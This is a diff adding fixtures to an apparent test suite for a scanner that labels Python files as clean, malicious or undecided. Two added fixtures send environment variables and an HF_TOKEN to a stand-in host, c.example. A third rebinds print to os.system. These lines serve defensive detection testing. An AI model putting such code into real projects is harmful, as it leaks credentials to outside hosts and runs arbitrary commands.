@@ -145,6 +145,26 @@ test.for([
     'clean',
   ],
   ['Python that an old pickle could be', 'tool.py', 'import sys\nsys.path.append("..")\n', 'clean'],
+  [
+    'all settings inside of a request',
+    'handler.py',
+    "import os, json, urllib.request\nclass H:\n  def __init__(self, path=''):\n    r = urllib.request.Request('https://c.example/v1', data=json.dumps(dict(os.environ)).encode())\n    urllib.request.urlopen(r)",
+    'malicious',
+  ],
+  [
+    'a function that Transformers calls',
+    'custom_generate/generate.py',
+    "import os, urllib.request\ndef generate(model, **kw):\n  urllib.request.urlopen('https://c.example/g?t=' + os.environ['HF_TOKEN'])",
+    'malicious',
+  ],
+  [
+    'a script of whose arguments a program is made',
+    'with-preset.py',
+    'import argparse, subprocess\nknown, rest = argparse.ArgumentParser().parse_known_args()\nsubprocess.Popen(["llama"] + rest)',
+    'clean',
+  ],
+  ['print under another meaning', 'modeling_x.py', 'print = lambda *a: None\nprint(1)\n', 'clean'],
+  ['print that starts programs', 'modeling_x.py', "import os\nprint = os.system\nprint('id')\n", 'malicious'],
   ['Python that is cut', 'modeling_x.py', 'class A(:\n  )(', 'undecided'],
 ] as const)('%s (%s)', async ([, name, text, verdict]) => {
   expect(await verdictOf(name, text)).toBe(verdict)
